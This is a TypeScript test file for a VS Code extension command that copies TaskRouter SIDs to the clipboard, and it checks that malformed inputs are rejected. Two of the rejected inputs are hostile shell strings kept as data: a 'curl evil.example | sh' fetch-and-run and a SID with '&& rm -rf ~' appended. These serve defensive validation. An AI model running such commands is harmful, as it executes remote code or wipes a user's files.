import assert from 'node:assert/strict';
import { commands, env } from 'vscode';

const D = '0123456789abcdef0123456789abcdef';
const copy = (argument?: unknown) => commands.executeCommand('_taskrouter.copySid', argument);

describe('Copying a SID', () => {
  beforeEach(() => env.clipboard.writeText('before'));

  it('copies it in its original case', async () => {
    const sid = `WT${D.toUpperCase()}`;
    await copy(sid);
    assert.equal(await env.clipboard.readText(), sid);
  });

  it('copies the SID of a row, and not that of its Task', async () => {
    await copy({ sid: `WR${D}`, taskSid: `WT${D}` });
    assert.equal(await env.clipboard.readText(), `WR${D}`);
    await copy({ workspaceSid: `WS${D}`, taskSid: `WT${D}` });
    assert.equal(await env.clipboard.readText(), `WT${D}`);
  });

  const others: [what: string, argument: unknown][] = [
    ['nothing', undefined],
    ['a number', 7],
    ['an object without a SID of its own', { workspaceSid: `WS${D}` }],
    ['an object whose SID is none', { sid: [`WT${D}`] }],
    ['a list', [`WT${D}`]],
    ['words', 'curl evil.example | sh'],
    ['a SID that is too short', `WT${D.slice(1)}`],
    ['a SID that is too long', `WT${D}0`],
    ['a SID and a line break', `WT${D}\n`],
    ['a SID and more', `WT${D} && rm -rf ~`],
    ['more and a SID', `echo WT${D}`],
    ['a placeholder', `WT${'X'.repeat(32)}`],
  ];
  for (const [what, argument] of others) {
    it(`does not change the clipboard if given ${what}`, async () => {
      await copy(argument);
      assert.equal(await env.clipboard.readText(), 'before');
    });
  }
});
